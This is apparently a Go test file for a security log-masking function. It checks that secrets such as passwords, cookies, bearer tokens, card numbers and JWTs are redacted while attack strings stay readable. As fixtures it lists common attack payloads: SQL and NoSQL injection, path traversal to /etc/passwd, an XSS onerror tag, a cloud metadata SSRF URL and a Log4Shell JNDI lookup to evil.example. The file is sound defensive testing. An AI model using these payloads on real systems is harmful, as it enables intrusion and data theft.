package threat

import (
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// goal: V16.2.5 V14.2.4
func TestMask(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		// Attacks stay readable.
		{"' OR '1'='1' -- ", "' OR '1'='1' -- "},
		{"password=' OR '1'='1", "password=' OR '1'='1"},
		{`{"password":{"$ne":""}}`, `{"password":{"$ne":""}}`},
		{"UNION SELECT username, password FROM users", "UNION SELECT username, password FROM users"},
		{"../../../../etc/passwd", "../../../../etc/passwd"},
		{"<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"},
		{"http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/"},
		{"${jndi:ldap://evil.example/a}", "${jndi:ldap://evil.example/a}"},
		{"body/items/3/description", "body/items/3/description"},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/140.0.0.0 Safari/537.36", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/140.0.0.0 Safari/537.36"},
		{"1234567890123", "1234567890123"}, // no card: the check digit is wrong
		// Secrets do not.
		{"password='hunter2' OR 1=1", "password='***' OR 1=1"},
		{"user=ann&passwd=hunter2&x=1", "user=ann&passwd=***&x=1"},
		{`"api_key": "k-91"`, `"api_key": "***"`},
		{"user[password]=hunter2", "user[password]=***"},
		{"Cookie: a1b2", "Cookie: ***"},
		{"Authorization: Bearer abcdef.ghi", "Authorization: *** ***"},
		{"x Bearer abcdef.ghijkl y", "x Bearer *** y"},
		{"postgres://app:hunter2@db/", "postgres://***@db/"},
		{"mail ann.lee+x@maker.example now", "mail ***@maker.example now"},
		{"4111 1111 1111 1111' or 1=1", "***1111' or 1=1"},
		{"5500005555555559", "***5559"},
		{"eyJhbGciOiJFZERTQSIsInR5cCI6ImF0K2p3dCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlLTAx", "eyJh***.eyJz***.c2lnbmF0dXJlLTAx"},
		{"mgk_0192f0c1a5d07b3c9e4f5a6b7c8d9e0f", "mgk_***"},
		{"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDR", "rO0A***"},
		{"POST /orders/550e8400-e29b-41d4-a716-446655440000/notes", "POST /orders/550e***/notes"},
	} {
		got := mask(c.in)
		if got != c.want {
			t.Errorf("mask(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// What the 80 bytes of evidence cut off is no longer what a pattern expects.
func TestMaskEvidence_HidesASecretThatWasCutOff(t *testing.T) {
	for _, secret := range []string{"4111 1111 1111", "sk9Xk2Lm4"} {
		evidence := strings.Repeat("<b>", 30)[:maxEvidence-len(secret)] + secret
		if got := maskEvidence(evidence); strings.Contains(got, secret) {
			t.Errorf("maskEvidence(%q) = %q, want the end masked", evidence, got)
		}
	}
	const word = "/etc/default/networking"
	evidence := strings.Repeat("../", 30)[:maxEvidence-len(word)] + word
	if got := maskEvidence(evidence); got != evidence {
		t.Errorf("maskEvidence(%q) = %q, want it unchanged", evidence, got)
	}
}

// goal: V16.2.5
func TestMask_CanariesNeverStay(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		canary := rapid.StringMatching(`[a-z]{4}[0-9]{4}[A-Z]{12}[0-9]{4}`).Draw(t, "canary")
		before := rapid.SampledFrom([]string{"", "' or 1=1 -- ", "<script>", "x=", "{\"a\":\"", "Bearer ", "password=", "https://"}).Draw(t, "before")
		after := rapid.SampledFrom([]string{"", " ", "'", "&b=1", "@maker.example", "\"}", "</script>", "."}).Draw(t, "after")
		if got := mask(before + canary + after); strings.Contains(got, canary[4:]) {
			t.Fatalf("mask(%q) = %q, which tells the secret", before+canary+after, got)
		}
	})
}

func FuzzMask(f *testing.F) {
	f.Add("password=hunter2&card=4111111111111111 ann@maker.example")
	f.Add("eyJhbGciOiJFZERTQSJ9.e30.x")
	f.Fuzz(func(t *testing.T, s string) {
		s = clean(s, maxEvidence)
		got := maskEvidence(s)
		if clean(got, len(got)) != got {
			t.Errorf("maskEvidence(%q) = %q, which a reader of the log may be fooled by", s, got)
		}
		if n := strings.Count(got, masked); len(got) > len(s)+n*len(masked) {
			t.Errorf("maskEvidence(%q) = %q, longer than what it hides", s, got)
		}
	})
}
